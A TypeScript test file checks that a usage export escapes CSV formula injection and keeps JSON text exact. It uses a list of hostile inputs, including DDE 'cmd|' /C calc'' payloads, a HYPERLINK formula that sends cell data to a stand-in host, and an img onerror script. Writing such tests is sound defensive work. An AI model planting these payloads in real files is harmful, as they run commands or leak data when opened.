import { existsSync, mkdtempSync, rmSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { DEFAULT_PROFILE_SETTINGS } from "@bedrock-tiers/protocol"
import { parse } from "csv-parse/sync"
import fc from "fast-check"
import { afterEach, beforeEach, expect, it, type TestContext } from "vitest"
import { attack } from "@bedrock-tiers/test-kit/samples/hostile-markdown"
import { sampleSize } from "@bedrock-tiers/test-kit/sampling"
import * as samples from "@bedrock-tiers/test-kit/samples/view-state"
import { clearFolder, NOW, openFileHost, writeTestFile } from "./testing/file-host"
import { recordMeasurement, report, SEED } from "./testing/report"

/** Usage exports (CSV for spreadsheets, JSON for programs) with hostile text in every text column. */

let folder: string
beforeEach(() => (folder = mkdtempSync(join(existsSync("/dev/shm") ? "/dev/shm" : tmpdir(), "bedrock-tiers-usage-"))))
afterEach(() => rmSync(folder, { recursive: true, force: true }))

const CHAT_ID = "3b1f2a64-0000-4000-8000-000000000001"
const COLUMNS = [
	"chat_title",
	"model_id",
	"base_model_id",
	"region",
	"served_tier",
	"billed_tier",
	"price_source",
	"price_checked_on",
] as const
type Texts = Readonly<Record<(typeof COLUMNS)[number], string>>

/** Stores a chat with these texts and exports its usage in both formats. */
async function exportUsage(texts: Texts) {
	clearFolder(folder)
	const request = samples.request({
		modelId: texts.model_id,
		baseModelId: texts.base_model_id,
		region: texts.region,
		servedTier: texts.served_tier,
		billedTier: texts.billed_tier,
		card: { origin: "catalog", source: texts.price_source, checkedOn: texts.price_checked_on },
	})
	const chat = {
		version: 2,
		id: CHAT_ID,
		createdAt: NOW.toISOString(),
		title: texts.chat_title,
		toolsAllowed: false,
		tier: null,
		summary: null,
		background: [],
		failedBackground: [],
		messages: [{ role: "user", id: "q", text: texts.chat_title }, samples.answer({ id: "a", request })],
		removed: [],
	}
	const profile = { id: "default", name: texts.chat_title, kind: "aws", settings: DEFAULT_PROFILE_SETTINGS }
	const settings = { settings: { version: 1, activeProfileId: "default", profiles: [profile] } }
	for (const [name, value] of Object.entries({ [`chats/${CHAT_ID}.json`]: chat, "settings.json": settings }))
		writeTestFile(join(folder, name), { description: "", bytes: Buffer.from(JSON.stringify(value)) })
	const host = await openFileHost(folder)
	await host.do({ type: "export-usage", format: "csv" })
	await host.do({ type: "export-usage", format: "json" })
	host.end()
	const [csv = "", json = ""] = host.saved
	return { csv, json }
}

/**
 * Independent of the product's own check: invisible characters, then a character that starts a formula in some
 * spreadsheet.
 */
const beginsFormula = (cell: string) => /^[\p{C}\p{Z}\s]*[=+\-@|%\u2212]/u.test(cell.normalize("NFKC"))
const isNumber = (cell: string) => /^-?\d+(\.\d+)?(e[+-]?\d+)?$/.test(cell)

/** Rejects a line break outside quotation marks too, which a spreadsheet reads as the end of a row. */
const readCsv = (csv: string) => parse(csv, { record_delimiter: ["\r\n", "\n", "\r"] })

function expectHarmless(csv: string, texts: Texts): void {
	const [names = [], cells = [], ...more] = readCsv(csv)
	expect(more).toEqual([])
	for (const cell of [...names, ...cells]) {
		if (!isNumber(cell)) expect([cell, beginsFormula(cell)]).toEqual([cell, false])
		expect(cell).not.toMatch(/^[\t\r\n]/)
	}
	for (const name of COLUMNS) {
		const cell = cells[names.indexOf(name)]
		const isGuarded = cell === `'${texts[name]}`
		expect([name, isGuarded ? cell.slice(1) : cell]).toEqual([name, texts[name]])
		// Only texts that need a guard are changed.
		if (isGuarded)
			expect([texts[name], /^[\t\r\n]/.test(texts[name]) || beginsFormula(texts[name])]).toContain(true)
	}
	// No cell splits in programs that use a semicolon or a tab as the separator.
	expect(csv.replaceAll(/"(?:[^"]|"")*"/g, "")).not.toMatch(/[;\t]/)
}

function expectExact(json: string, texts: Texts): void {
	const { rows } = JSON.parse(json) as { rows: Record<string, unknown>[] }
	expect(rows).toHaveLength(1)
	expect(Object.fromEntries(COLUMNS.map((name) => [name, rows[0]?.[name]]))).toEqual(texts)
}

const HOSTILE = [
	'=HYPERLINK("https://remote.example?"&A1,"Click")',
	"=cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"|calc",
	"%0A=1",
	"\t=1",
	"\r=1",
	"\n=1",
	"\r\n=1",
	" \u00a0\u3000=1",
	"\ufeff=1",
	"\u200b=1",
	"\u202e=1",
	"\u00ad=1",
	"\u0000=1",
	"\u007f\u0085=1",
	"＝1",
	"﹦1",
	"⁼1",
	"＋1",
	"－1",
	"﹣1",
	"−1",
	"＠SUM(1)",
	"'=1",
	"''=1",
	"a;=1",
	"a\t=1",
	"a\n=1",
	"a\r\n=1,=2",
	'a","=1',
	'"=1"',
	'"',
	'""',
	",",
	"a,=1",
	`<img src=x onerror=${attack}>`,
	"{=1}",
	"[=1]",
	"(=1)",
	"x=1 + y - @z",
	"1",
	"-1",
	"1e5",
	"true",
	"__proto__",
	"ID",
	" ",
	"\u2028=1",
	"👍=1",
]

const everywhere = (text: string) => Object.fromEntries(COLUMNS.map((name) => [name, text])) as Texts

it("Usage export neutralizes texts that a spreadsheet would run as formulas", async (context) => {
	report(context, {
		area: "files",
		tried: `usage as CSV and JSON with hostile titles, profiles, models, regions, tiers and price sources: ${HOSTILE.length} formulas, signs, line ends, quotes and separators`,
		holds: "no cell starts a formula; a strict CSV parser returns the same texts, with an apostrophe before those that would start one; JSON contains them unchanged",
	})
	for (const text of HOSTILE) {
		const { csv, json } = await exportUsage(everywhere(text))
		expectHarmless(csv, everywhere(text))
		expectExact(json, everywhere(text))
	}
	// Both checks detect what they check for.
	expect(() => expectHarmless('chat_title\r\n"=1"\r\n', everywhere("=1"))).toThrow("=1")
	for (const invalid of ['a"b\r\n', '"a"b\r\n', '"a\r\n', "a,b\r\nc\r\n", "a,b\nc\r\n"])
		expect(() => readCsv(invalid)).toThrow()
})

it("Usage export neutralizes generated texts", async (context: TestContext) => {
	const count = sampleSize(1_000)
	report(context, {
		area: "files",
		tried: `usage as CSV and JSON of ${count.toLocaleString("en-US")} chats with generated texts in the same columns`,
		holds: "as for the hostile texts",
	})
	const sign = fc.constantFrom(..."=+-@|%;,\"'\t\r\n \u200b\u202e＝−", "\r\n", "a")
	const text = fc
		.tuple(fc.array(sign, { maxLength: 6 }), fc.string({ unit: "binary", maxLength: 20 }))
		.map(([signs, rest]) => signs.join("") + rest)
		.filter((value) => value !== "")
	const texts = fc.record(Object.fromEntries(COLUMNS.map((name) => [name, text]))) as fc.Arbitrary<Texts>
	await fc.assert(
		fc.asyncProperty(texts, async (values) => {
			const { csv, json } = await exportUsage(values)
			expectHarmless(csv, values)
			expectExact(json, values)
		}),
		{ numRuns: count, seed: SEED, endOnFailure: true },
	)
	recordMeasurement(context, `usage: the texts of ${count.toLocaleString("en-US")} chats, seed ${SEED}`)
})
